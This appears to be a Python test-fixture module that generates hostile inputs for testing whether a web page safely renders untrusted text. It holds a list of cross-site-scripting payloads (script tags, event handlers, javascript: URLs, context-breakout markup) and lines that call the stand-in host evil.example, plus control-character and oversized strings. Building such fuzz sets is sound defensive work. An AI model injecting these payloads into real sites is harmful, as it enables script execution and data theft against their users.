"""Texts that want a page to run them, to leave their place or to break it."""

from __future__ import annotations

from itertools import product

SCRIPTS = (
    "document.title='hit';window.hit=1",
    "globalThis.hit=1",
    "alert(1)",
)
WRAPPERS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</textarea></title></style></script><img src=x onerror={}>",
    '<img src=x onerror="{}">',
    '<svg onload="{}">',
    "<svg><script>{}</script></svg>",
    '<svg><animate onbegin="{}" attributeName=x dur=1s>',
    "]]><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>",
    "--><script>{}</script><!--",
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<iframe src="javascript:parent.{}"></iframe>',
    '<a href="javascript:{}" autofocus onfocus="{}">x</a>',
    '<details open ontoggle="{}">',
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<style>@import 'http://evil.example/a.css';</style>{}",
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<base href="http://evil.example/"><script>{}</script>',
    "<link rel=stylesheet href=http://evil.example/?{}>",
    '" onmouseover="{}" x="',
    "' autofocus onfocus='{}",
    "javascript:{}",
    "${{{}}} {{{{{}}}}} `${{{}}}`",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt; &#60;script&#62;{}",
    "![x](javascript:{}) [y](javascript:{}) <javascript:{}>",
    "\\href{{javascript:{}}}{{x}} \\includegraphics{{http://evil.example}} $\\require{{html}}$",
    "__proto__ constructor toString {}",
    "</div></td></tr></table></main></body></html><script>{}</script>",
    "<template><script>{}</script></template>",
)
TEXTS = (
    "\u202e\u2066drawkcab\u2069 \u200f\u061c \u202e",
    "\x00\x00\x00 null \x1b[2J\x1b]0;title\x07 \x7f \x85",
    "a" * 100_000,
    "ab " * 40_000,
    "\u0301" * 500,
    "\u2028\u2029\ufeff\u200b\u200d\u00ad",
    "\x01\x02" * 2_000,
    "💥" * 1_000 + "<script>window.hit=1</script>",
    "",
    "\r\n\r\n\t\n" * 500,
)


TAILS = ("", " \u202e<!--", "\n\x00'\"`", "\n</main>")


def hostile_texts() -> list[str]:
    """300 of them; all can be told in UTF-8, as files demand."""
    made = [
        wrapper.format(*[script] * 3) + tail
        for tail, wrapper, script in product(TAILS, WRAPPERS, SCRIPTS)
    ]
    return (list(TEXTS) + made)[:300]
